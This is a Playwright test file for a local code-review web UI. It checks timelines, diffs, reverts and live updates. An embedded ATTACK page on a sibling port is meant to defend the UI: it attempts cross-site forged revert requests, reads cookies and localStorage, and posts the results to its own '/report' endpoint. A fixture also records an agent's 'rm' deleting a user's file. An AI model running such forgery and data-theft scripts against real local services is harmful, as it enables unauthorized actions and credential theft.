"""The review page in a real browser: Debian's Chromium driven by Playwright against a real
``turnback ui`` process. Each test keeps a screenshot of what it saw under test-artifacts/ui/."""

from __future__ import annotations

import json
import os
import re
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from bench.browser import WIDE, launch
from playwright.sync_api import BrowserContext, Page, Playwright, expect, sync_playwright

import turnback

from .conftest import TURNBACK, Reviewed, StartServer, long_session, say

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "ui"
NARROW = {"width": 390, "height": 844}


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as driver:
        yield driver


@pytest.fixture
def context(playwright: Playwright, tmp_path: Path) -> Iterator[BrowserContext]:
    """A fresh Chromium with a fresh profile for each test."""
    browser = launch(playwright, tmp_path / "profile")
    browser.set_default_timeout(15_000)
    try:
        yield browser
    finally:
        browser.close()


@pytest.fixture
def page(context: BrowserContext) -> Page:
    page = context.pages[0] if context.pages else context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.errors = errors  # type: ignore[attr-defined]
    return page


def shot(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=False)


def ready(page: Page) -> None:
    page.wait_for_selector("body[data-ready]")
    assert page.errors == []  # type: ignore[attr-defined]


def open_page(page: Page, start_server: StartServer, home: Path, path: str) -> None:
    """Serve ``home``, log in with the printed address, and open ``path`` once it is drawn."""
    server = start_server(home)
    page.goto(server.url)
    ready(page)
    page.goto(server.base + path)
    ready(page)


def test_without_the_token_the_page_is_refused(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    server = start_server(reviewed.home)

    page.goto(f"{server.base}/sessions/{reviewed.session}")
    ready(page)

    expect(page.locator("h1")).to_have_text("No access")
    expect(page.locator("main")).to_contain_text("has no key")
    expect(page.locator("body")).not_to_contain_text("review me")
    page.goto(f"{server.base}/#token=guessed")
    ready(page)
    expect(page.locator("h1")).to_have_text("No access")
    expect(page.locator("main")).to_contain_text("wrong token")
    assert "guessed" not in page.url  # the token left the address
    shot(page, "refused")


def test_the_timeline_of_a_demo_session(
    page: Page, tmp_path: Path, start_server: StartServer
) -> None:
    env = {**os.environ, "TMPDIR": str(tmp_path)}
    done = subprocess.run(
        [TURNBACK, "demo", "--keep", "--json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=True,
    )
    demo = json.loads(done.stdout)
    server = start_server(Path(demo["home"]))

    page.goto(server.url)
    ready(page)
    assert "token" not in page.url  # the token left the address
    expect(page.locator("table.sessions tbody tr")).to_have_count(1)
    expect(page.locator("table.sessions tbody tr td").nth(4)).to_have_text("turn 3")  # not a token
    shot(page, "sessions")
    page.get_by_role("link", name="demo").click()
    ready(page)

    nodes = page.locator("li.node")
    expect(nodes).to_have_count(3)
    expect(nodes.nth(0)).to_contain_text("#3")  # newest first: it opens at the head
    expect(nodes.nth(2)).to_contain_text("#1")
    expect(nodes.nth(2)).to_contain_text("greet.py")
    expect(page.locator("li.mark.revert")).to_contain_text("Reverted to turn 1")
    expect(page.locator("li.mark.revert")).to_contain_text("undone")
    shot(page, "timeline")
    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(nodes.nth(1)).to_be_focused()
    page.keyboard.press("o")
    ready(page)
    assert re.search(r"/turns/2$", page.url)
    page.set_viewport_size(NARROW)
    page.go_back()
    ready(page)
    shot(page, "timeline-narrow")
    assert page.evaluate("document.documentElement.scrollWidth") <= NARROW["width"]


def test_an_untitled_session_is_named_by_its_first_prompt(
    page: Page, tmp_path: Path, start_server: StartServer
) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    home = tmp_path / "home"
    with turnback.open(home) as tb:
        session = tb.create_session(workspace)
        with session.turn([{"type": "text", "text": "Add a   dark mode to the settings page"}]):
            (workspace / "theme.css").write_text("body { color: white; }\n")
        with session.turn("and a toggle"):
            pass
    open_page(page, start_server, home, "/")

    link = page.get_by_role("link", name="Add a dark mode to the settings page")
    expect(link).to_be_visible()
    expect(page.locator("table.sessions tbody td").nth(4)).to_have_text("turn 2")
    link.click()
    ready(page)
    expect(page.locator("h1")).to_have_text("“Add a dark mode to the settings page”")
    expect(page.locator("#crumbs")).to_contain_text("Add a dark mode to the settings page")
    assert "Add a dark mode" in page.title()
    page.get_by_role("link", name="#1").click()
    ready(page)
    expect(page.locator("#crumbs")).to_contain_text("Add a dark mode to the settings page")


def test_a_long_session_opens_at_its_head_a_page_at_a_time_with_a_jump_and_a_file_filter(
    page: Page, tmp_path: Path, start_server: StartServer
) -> None:
    """520 turns opened at turn 1 on a 76,000 px page (the bug): now the newest turns first, a
    page of them, and the rest reached by "older", a jump to a number, or a filter by path."""
    home = tmp_path / "home"
    session = long_session(home, tmp_path / "workspace", 520)
    open_page(page, start_server, home, f"/sessions/{session}")

    nodes = page.locator("li.node")
    expect(nodes).to_have_count(50)
    expect(nodes.nth(0)).to_contain_text("#520")
    expect(nodes.nth(49)).to_contain_text("#471")
    assert page.evaluate("document.documentElement.scrollHeight") < 20_000
    assert page.evaluate("window.scrollY") == 0  # the head is on the first screen
    shot(page, "long-session")
    page.get_by_role("button", name="Show 50 older turns (470 left)").click()
    expect(nodes).to_have_count(100)
    expect(nodes.nth(99)).to_contain_text("#421")

    page.get_by_label("Jump to turn").fill("300")
    page.get_by_role("button", name="Go").click()
    found = page.locator('li.node:has(a.number:text-is("#300"))')
    expect(found).to_be_focused()
    expect(found).to_be_in_viewport()
    expect(nodes).to_have_count(250)  # the pages down to turn 300 are drawn, no further
    page.get_by_label("Jump to turn").fill("999")
    page.get_by_role("button", name="Go").click()
    expect(page.locator("#toast")).to_contain_text(
        "There is no turn 999: this session has turns 1 to 520"
    )

    page.get_by_label("Filter by file").fill("docs/step_7")
    expect(nodes).to_have_count(11)  # 79 … 70 and 7
    expect(nodes.nth(0)).to_contain_text("#79")
    expect(nodes.nth(10)).to_contain_text("#7")
    expect(page.locator(".finder").get_by_role("status")).to_contain_text("11 of 520 turns")
    shot(page, "long-session-filtered")
    page.get_by_label("Filter by file").fill("")
    expect(nodes).to_have_count(50)
    page.set_viewport_size(NARROW)
    expect(page.get_by_label("Jump to turn")).to_be_visible()
    shot(page, "long-session-narrow")
    assert page.evaluate("document.documentElement.scrollWidth") <= NARROW["width"]


def test_a_turn_shows_its_conversation_beside_its_diff(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    open_page(page, start_server, reviewed.home, f"/sessions/{reviewed.session}/turns/2")

    talk = page.locator(".conversation")
    expect(talk).to_contain_text("change the app, add a helper")
    expect(talk).to_contain_text("Changed the app.")
    expect(talk.locator(".msg.tool")).to_contain_text("Edit app.py")
    expect(talk.locator(".msg.tool")).to_contain_text("completed")
    files = page.locator("section.file")
    expect(files).to_have_count(2)
    expect(files.nth(0).locator("tr.add")).to_contain_text('return "two"')
    expect(files.nth(0).locator("tr.del")).to_contain_text('return "one"')
    expect(page.locator(".note")).to_contain_text("by-hand.txt")  # not blamed on the agent
    box = page.locator(".talk-pane").bounding_box()
    diff = page.locator(".diff-col").bounding_box()
    assert box and diff and box["x"] + box["width"] <= diff["x"]  # side by side
    shot(page, "turn")

    page.keyboard.press("n")
    expect(files.nth(0)).to_be_focused()
    page.keyboard.press("x")
    expect(files.nth(0)).to_have_class(re.compile("collapsed"))
    page.keyboard.press("x")
    page.keyboard.press("s")
    expect(page.locator("table.diff.split").first).to_be_visible()
    shot(page, "turn-split")
    page.set_viewport_size(NARROW)
    expect(page.locator("table.diff.split")).to_have_count(0)  # too narrow for two columns
    expect(page.locator("table.diff.unified").first).to_be_visible()
    expect(page.get_by_role("button", name="Split")).to_be_disabled()
    shot(page, "turn-narrow")
    assert page.evaluate("document.documentElement.scrollWidth") <= NARROW["width"]
    page.set_viewport_size(WIDE)
    expect(page.locator("table.diff.split").first).to_be_visible()  # the choice is kept
    page.keyboard.press("]")
    ready(page)
    expect(page.locator("h1")).to_have_text("Turn 3")


def test_a_revert_is_previewed_confirmed_and_undone(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    workspace = reviewed.workspace
    open_page(page, start_server, reviewed.home, f"/sessions/{reviewed.session}")

    page.locator("li.node", has_text="#2").get_by_role("button", name="Revert to here…").click()
    expect(page.get_by_role("dialog")).to_contain_text(
        "Turn 3 leaves the conversation and is kept as reverted history"
    )
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    page.locator("li.node", has_text="#1").get_by_role("button", name="Revert to here…").click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("Revert to turn 1?")
    plan = dialog.locator(".plan")
    expect(plan.locator(".plan-restore")).to_contain_text("app.py")
    expect(plan.locator(".plan-delete")).to_contain_text("CHANGES.md")
    expect(plan.locator(".plan-keep")).to_contain_text("by-hand.txt")
    expect(plan.locator(".plan-keep")).to_contain_text("pre-existing")
    shot(page, "revert-preview")
    dialog.get_by_label("Conversation only").check()
    expect(plan).to_contain_text("no file is touched")
    dialog.get_by_label("Files and conversation").check()
    expect(plan.locator(".plan-delete")).to_contain_text("CHANGES.md")
    assert (workspace / "app.py").read_text() == 'def main():\n    return "two"\n'  # not yet
    assert (workspace / "CHANGES.md").exists()

    dialog.get_by_role("button", name="Revert to turn 1").click()

    expect(page.locator("li.mark.revert")).to_contain_text("Reverted to turn 1")
    assert (workspace / "app.py").read_text() == 'def main():\n    return "one"\n'
    assert not (workspace / "CHANGES.md").exists()
    assert (workspace / "by-hand.txt").exists()
    expect(page.locator("li.node.reverted")).to_have_count(2)
    shot(page, "reverted")

    page.get_by_role("button", name="Undo the revert to turn 1").click()
    confirm = page.get_by_role("dialog", name="Undo the revert to turn 1")
    expect(confirm).to_contain_text("go back to how they were just before that revert")
    shot(page, "undo-confirm")
    confirm.get_by_role("button", name="Cancel").click()  # a stray click changes nothing
    expect(confirm).to_have_count(0)
    assert (workspace / "app.py").read_text() == 'def main():\n    return "one"\n'
    page.get_by_role("button", name="Undo the revert to turn 1").click()
    confirm.get_by_role("button", name="Undo the revert").click()

    expect(page.locator("li.mark.revert")).to_contain_text("undone")
    assert (workspace / "app.py").read_text() == 'def main():\n    return "two"\n'
    assert (workspace / "CHANGES.md").read_text() == "# Changes\n"
    expect(page.locator("li.node.reverted")).to_have_count(0)
    shot(page, "undone")


def test_a_revert_that_would_fail_is_shown_so_and_a_refused_one_says_what_to_do(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    (reviewed.workspace / "app.py").write_text("my own edit\n")
    with turnback.open(reviewed.home) as tb, tb.session(reviewed.session).turn("build"):
        (reviewed.workspace / ".gitignore").write_text("*.o\n")  # and 300 ignored objects
        for n in range(300):
            (reviewed.workspace / f"part{n}.o").write_text("object\n")
    open_page(page, start_server, reviewed.home, f"/sessions/{reviewed.session}")

    page.locator("li.node", has_text="#1").get_by_role("button", name="Revert to here…").click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("Turns 2–4 leave the conversation")
    # the hand edit in the way comes first, and the confirm button says what it overwrites
    groups = dialog.locator(".plan .plan-group")
    expect(groups.first).to_have_class(re.compile(r"\bplan-conflict\b"))
    expect(groups.first).to_contain_text("app.py")
    expect(groups.first).to_contain_text("the revert overwrites it")
    expect(dialog.locator(".plan-ignored")).to_contain_text("300 ignored paths")
    expect(dialog.locator(".plan")).not_to_contain_text("part7.o")
    confirm = dialog.get_by_role("button", name="Revert and overwrite your edit")
    expect(confirm).to_be_enabled()
    dialog.get_by_label("Keep my edits").check()
    expect(dialog.locator(".plan-conflict")).to_contain_text("clashes")
    confirm = dialog.get_by_role("button", name="Revert to turn 1")
    expect(confirm).to_be_disabled()  # it would be refused: no pointless click
    shot(page, "revert-conflict")
    dialog.get_by_label("Keep my edits").uncheck()
    confirm = dialog.get_by_role("button", name="Revert and overwrite your edit")
    expect(confirm).to_be_enabled()

    with turnback.open(reviewed.home) as tb:  # a turn begins while the dialog is open
        running = tb.session(reviewed.session).turn("meanwhile")
        confirm.click()
        alert = dialog.get_by_role("alert")
        expect(alert).to_contain_text("What happened")
        expect(alert).to_contain_text("is running")
        expect(alert).to_contain_text("Wait until turn 5 ends (this page shows it live)")
        shot(page, "revert-refused")
        running.cancel("done with the test")
    assert (reviewed.workspace / "app.py").read_text() == "my own edit\n"
    assert (reviewed.workspace / "CHANGES.md").exists()


def test_a_running_turn_grows_live(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    open_page(page, start_server, reviewed.home, f"/sessions/{reviewed.session}")
    expect(page.locator("li.node")).to_have_count(3)

    with turnback.open(reviewed.home, durability="strict") as tb:
        turn = tb.session(reviewed.session).turn("write the docs")
        running = page.locator("li.node.st-running")
        expect(running).to_have_count(1)  # appeared without a reload
        say(turn, "Reading the code. ")
        expect(running.locator(".livebox")).to_contain_text("Reading the code.")
        say(turn, "Writing docs/index.md now.")
        expect(running.locator(".livebox")).to_contain_text("Writing docs/index.md now.")
        shot(page, "running")
        (reviewed.workspace / "index.md").write_text("# Docs\n")
        running.get_by_role("link", name="#4").click()
        ready(page)
        expect(page.locator(".diff-pane")).to_contain_text("still running")
        expect(page.locator("section.file", has_text="index.md").locator("tr.add")).to_contain_text(
            "# Docs"
        )
        say(turn, " Done with the index.")
        expect(page.locator(".conversation")).to_contain_text("Done with the index.")
        shot(page, "running-turn")
        turn.complete()

    expect(page.locator(".turn-head")).to_contain_text("completed")  # reloaded as it ended
    expect(page.locator(".diff-pane")).not_to_contain_text("still running")
    page.goto(f"{page.url.rsplit('/turns/', 1)[0]}")
    ready(page)
    expect(page.locator("li.node.st-running")).to_have_count(0)
    expect(page.locator("li.node").nth(0)).to_contain_text("#4")
    expect(page.locator("li.node").nth(0)).to_contain_text("completed")


def test_a_running_turns_diff_follows_the_workspace_without_capturing_it_too_often(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    """A running turn's diff was frozen at page load while it said "against the workspace as
    it is now" (the bug): it is asked for again while the turn runs, at most every 2 s."""
    with turnback.open(reviewed.home, durability="strict") as tb:
        turn = tb.session(reviewed.session).turn("write the docs")
        (reviewed.workspace / "index.md").write_text("# Docs\n")
        asked: list[float] = []
        page.on(
            "request",
            lambda r: asked.append(time.monotonic())
            if re.search(r"/turns/\w+/diff", r.url)
            else None,
        )
        open_page(page, start_server, reviewed.home, f"/sessions/{reviewed.session}/turns/4")
        note = page.locator(".running-note")
        expect(note).to_contain_text("against the workspace as it was when last refreshed")
        first = note.locator("time").get_attribute("datetime")
        expect(page.locator("section.file")).to_have_count(1)

        (reviewed.workspace / "guide.md").write_text("# Guide\nRead me.\n")
        (reviewed.workspace / "index.md").write_text("# Docs\nSee the guide.\n")

        guide = page.locator("section.file", has_text="guide.md")
        expect(guide.locator("tr.add").last).to_contain_text("Read me.")  # no reload
        index = page.locator("section.file", has_text="index.md")
        expect(index.locator("tr.add").last).to_contain_text("See the guide.")
        assert note.locator("time").get_attribute("datetime") != first
        shot(page, "running-turn-live")
        watched = time.monotonic()
        page.wait_for_timeout(6000)
        during = [t for t in asked if t >= watched]
        assert 2 <= len(during) <= 4, during  # every 2 s: never a capture per event
        turn.complete()
    expect(page.locator(".turn-head")).to_contain_text("completed")  # reloaded as it ended
    expect(page.locator("section.file", has_text="guide.md")).to_have_count(1)


def test_since_i_last_looked_shows_what_came_after_the_review_mark(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    open_page(page, start_server, reviewed.home, f"/sessions/{reviewed.session}")

    page.get_by_role("button", name="Mark turns 1–3 reviewed").click()
    expect(page.get_by_role("button", name="Mark turns 1–3 reviewed")).to_have_count(0)
    with turnback.open(reviewed.home) as tb, tb.session(reviewed.session).turn("add a license"):
        (reviewed.workspace / "LICENSE").write_text("MIT\n")

    expect(page.locator("li.node").nth(0)).to_contain_text("new since review")
    page.get_by_role("link", name="Since I last looked (turn 4)").click()
    ready(page)

    expect(page.locator("h1")).to_have_text("From the end of turn 3 to the end of turn 4")
    expect(page.locator("section.file")).to_have_count(1)
    expect(page.locator("section.file tr.add")).to_contain_text("MIT")
    shot(page, "since-last-looked")


def test_a_large_file_starts_collapsed_and_shows_a_chunk_at_a_time(
    page: Page, tmp_path: Path, start_server: StartServer
) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    home = tmp_path / "home"
    with turnback.open(home) as tb:
        session = tb.create_session(workspace, title="big")
        with session.turn("generate the tables"):
            (workspace / "big.py").write_text("".join(f"ROW_{i} = {i}\n" for i in range(700)))
            (workspace / "small.py").write_text("SMALL = 1\n")
    open_page(page, start_server, home, f"/sessions/{session.id}/turns/1")

    big = page.locator("section.file", has_text="big.py")
    expect(big).to_have_class(re.compile("collapsed"))
    expect(page.locator("section.file", has_text="small.py").locator("tr.add")).to_have_count(1)
    big.get_by_role("button", name="Large diff: show 700 changed lines").click()
    expect(big.locator("tr")).to_have_count(300)
    big.get_by_role("button", name="Show more (401 lines left)").click()
    expect(big.locator("tr")).to_have_count(600)
    big.get_by_role("button", name="Show more (101 lines left)").click()
    expect(big.locator("tr")).to_have_count(701)
    expect(big.get_by_role("button", name=re.compile("Show more"))).to_have_count(0)


def test_a_big_turn_lists_its_files_by_folder_and_filters_them_by_path(
    page: Page, tmp_path: Path, start_server: StartServer
) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    home = tmp_path / "home"
    with turnback.open(home) as tb:
        session = tb.create_session(workspace, title="wide")
        with session.turn("touch three packages"):
            for folder in ("api", "core", "docs"):
                (workspace / folder).mkdir()
                for n in range(40):
                    (workspace / folder / f"part_{n}.txt").write_text(f"{folder} {n}\n")
    open_page(page, start_server, home, f"/sessions/{session.id}/turns/1")

    index = page.locator("details.file-index")
    index.locator("summary").click()
    folders = index.locator(".folder")
    expect(folders).to_have_text(["api/ (40)", "core/ (40)", "docs/ (40)"])
    box = page.get_by_label("Show only files whose path contains")
    box.fill("core/part_1")  # part_1 and part_10 … part_19
    shown = page.locator("section.file:not([hidden])")
    expect(shown).to_have_count(11)
    expect(page.locator(".diff-toolbar").get_by_role("status")).to_have_text("11 of 120 files")
    expect(folders).to_have_text(["core/ (11)"])
    expect(shown.first.locator("tr.add")).to_contain_text("core 1")
    shot(page, "big-turn-filtered")
    index.get_by_role("link", name=re.compile("part_17.txt")).click()
    expect(page.locator("section.file", has_text="core/part_17.txt")).to_be_focused()
    box.fill("nothing like it")
    expect(shown).to_have_count(0)
    expect(index).to_contain_text("No file's path contains that.")
    box.fill("")
    expect(shown).to_have_count(120)
    page.set_viewport_size(NARROW)
    expect(box).to_be_visible()
    shot(page, "big-turn-narrow")
    assert page.evaluate("document.documentElement.scrollWidth") <= NARROW["width"]


ATTACK = """<!doctype html><meta charset=utf-8><title>a dev server</title><body><script>
const target = "TARGET", session = "SESSION", results = {};
const revert = `${target}/api/sessions/${session}/revert`;
(async () => {
  try {  // a "simple" request: the browser sends it without asking, with its cookies
    const r = await fetch(revert, { method: "POST", mode: "no-cors", credentials: "include",
      headers: { "content-type": "text/plain" }, body: '{"to_turn": 0}' });
    results.simple = r.type;
  } catch (e) { results.simple = "blocked"; }
  try {  // with the headers an action needs: only after a CORS preflight
    const r = await fetch(`${target}/api/sessions/${session}/undo`, { method: "POST",
      credentials: "include", headers: { "content-type": "application/json",
      authorization: "Bearer guess", "x-turnback-csrf": "guess" }, body: "{}" });
    results.preflighted = r.status;
  } catch (e) { results.preflighted = "blocked"; }
  try {
    const r = await fetch(`${target}/api/sessions`, { credentials: "include" });
    results.read = await r.text();
  } catch (e) { results.read = "blocked"; }
  try {
    const w = window.open(`${target}/`);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    results.popup = JSON.stringify(Object.assign({}, w.localStorage));
    w.close();
  } catch (e) { results.popup = "blocked"; }
  results.storage = JSON.stringify(Object.assign({}, localStorage));
  results.cookie = document.cookie;
  await fetch("/report", { method: "POST", body: JSON.stringify(results) });
  const form = Object.assign(document.createElement("form"),  // a top-level form POST
    { method: "POST", action: revert, enctype: "text/plain" });
  form.append(Object.assign(document.createElement("input"),
    { name: '{"to_turn": 0, "x": "', value: '"}' }));
  document.body.append(form);
  form.submit();
})();
</script>"""


class Sibling(ThreadingHTTPServer):
    """Another local server on another port -- an agent's dev server, say: it serves a page
    that tries to act on the review page, and keeps every request it receives."""

    def __init__(self, page: str) -> None:
        self.page = page
        self.received: list[tuple[str, dict[str, str], bytes]] = []
        self.reports: list[dict[str, Any]] = []
        sibling = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def answer(self, body: bytes, kind: str = "text/html") -> None:
                self.send_response(200)
                self.send_header("content-type", kind)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self) -> None:
                sibling.received.append((self.path, dict(self.headers), b""))
                self.answer(sibling.page.encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                sibling.received.append((self.path, dict(self.headers), body))
                if self.path == "/report":
                    sibling.reports.append(json.loads(body))
                self.answer(b"{}", "application/json")

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


def test_another_local_server_the_browser_visits_gets_no_credential_and_cannot_act(
    page: Page, reviewed: Reviewed, start_server: StartServer
) -> None:
    """Cookies ignore ports: a credential kept in one reached every server on 127.0.0.1, which
    could read the anti-forgery secret from the page and revert (the bug). Now nothing the
    browser sends another port carries a credential, and nothing that page does acts."""
    server = start_server(reviewed.home)
    page.goto(server.url)  # the user opens the review page: logged in
    ready(page)
    expect(page.locator("table.sessions tbody tr")).to_have_count(1)
    port = server.base.rsplit(":", 1)[1]
    key = str(page.evaluate("Object.values(localStorage).join(' ')"))
    sibling = Sibling(
        ATTACK.replace("TARGET", f"http://127.0.0.1:{port}").replace("SESSION", reviewed.session)
    )
    try:
        attack = page.context.new_page()
        attack.goto(sibling.url + "/")  # the same browser visits the other server
        deadline = time.monotonic() + 30
        while not sibling.reports and time.monotonic() < deadline:
            time.sleep(0.1)
        [report] = sibling.reports
        attack.wait_for_url(re.compile(rf":{port}/api/"))  # the form went

        # it received no credential
        secrets_ = [server.token, *key.split()]
        for path, headers, body in sibling.received:
            lowered = {k.lower() for k in headers}
            assert "cookie" not in lowered and "authorization" not in lowered, (path, headers)
            sent = f"{path} {headers} {body!r}"
            assert not any(s and s in sent for s in secrets_), sent
        # its page could neither read nor act
        assert report["preflighted"] == "blocked" and report["read"] == "blocked"
        assert report["popup"] == "blocked" and report["cookie"] == ""
        assert report["storage"] == "{}"
        with turnback.open(reviewed.home) as tb:
            assert tb.session(reviewed.session).reverts() == []
        # and with everything it received, the server itself cannot act either
        for _, headers, _ in sibling.received:
            forwarded = {
                k: v for k, v in headers.items() if k.lower() in ("cookie", "authorization")
            }
            html = httpx.get(f"{server.base}/", headers=forwarded).text
            config = html.split('type="application/json">')[1].split("</script>")[0]
            secret = next(iter(json.loads(config).values()), "")
            acted = httpx.post(
                f"{server.base}/api/sessions/{reviewed.session}/revert",
                json={"to_turn": 0},
                headers={**forwarded, "x-turnback-csrf": str(secret)},
            )
            assert acted.status_code in (401, 403), acted.text
        with turnback.open(reviewed.home) as tb:
            assert tb.session(reviewed.session).reverts() == []
        assert (reviewed.workspace / "CHANGES.md").exists()
        expect(attack.locator("body")).to_contain_text("another site or another port")
    finally:
        sibling.shutdown()
        sibling.server_close()


def test_a_file_an_agents_command_removed_is_brought_back_from_the_page_and_undone(
    page: Page, start_server: StartServer, tmp_path: Path
) -> None:
    """A terminal agent's turn: a checkpoint before its shell command, which removed the
    user's untracked file. The turn's page lists the checkpoint and brings the file back."""
    home, workspace = tmp_path / "home", tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "scratch.txt").write_text("the user's own notes\n")
    with turnback.open(home) as tb:
        session = tb.create_session(workspace, title="a terminal agent")
        with session.turn("tidy up") as turn:
            turn.checkpoint_tool("Bash", "call-1", "rm scratch.txt")
            (workspace / "scratch.txt").unlink()  # what the command did
        sid = session.id
    open_page(page, start_server, home, f"/sessions/{sid}/turns/1")

    points = page.get_by_role("region", name="Checkpoints before tools")
    expect(points).to_contain_text("Before tool 1: rm scratch.txt")
    points.locator("li.point").nth(1).get_by_role("button", name="Bring files back…").click()
    dialog = page.get_by_role("dialog", name="Bring files back")
    dialog.get_by_label("Paths to bring back").fill("scratch.txt")
    dialog.get_by_role("button", name="Bring them back").click()
    expect(page.get_by_role("status")).to_contain_text("Brought back scratch.txt")
    assert (workspace / "scratch.txt").read_text() == "the user's own notes\n"
    shot(page, "rescued")

    page.once("dialog", lambda asked: asked.accept())
    points.get_by_role("button", name="Undo the last rescue").click()
    expect(page.get_by_role("status")).to_contain_text("Undid rescue")
    assert not (workspace / "scratch.txt").exists()
    assert page.errors == []  # type: ignore[attr-defined]
